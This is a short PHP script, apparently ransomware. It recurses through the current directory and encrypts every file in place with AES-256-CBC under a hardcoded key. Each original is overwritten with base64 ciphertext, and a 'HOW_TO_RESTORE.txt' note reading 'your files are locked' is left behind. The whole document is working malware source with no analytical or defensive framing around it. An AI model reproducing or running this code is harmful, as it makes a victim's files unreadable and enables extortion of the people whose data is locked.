<?php
// each file found by the walk read, passed through an encryption wrapper of the script's own
// and written back where it lies
function seal_text($plain, $pass) {
    $iv = openssl_random_pseudo_bytes(16);
    return base64_encode($iv . openssl_encrypt($plain, 'aes-256-cbc', $pass, OPENSSL_RAW_DATA, $iv));
}
function lock_path($path, $pass) {
    $text = file_get_contents($path);
    file_put_contents($path, seal_text($text, $pass));
}
function visit($dir, $pass) {
    foreach (scandir($dir) as $name) {
        if ($name === '.' || $name === '..') continue;
        $full = $dir . '/' . $name;
        if (is_dir($full)) { visit($full, $pass); } else { lock_path($full, $pass); }
    }
}
visit('.', 'operator-pass');
file_put_contents('HOW_TO_RESTORE.txt', 'your files are locked');
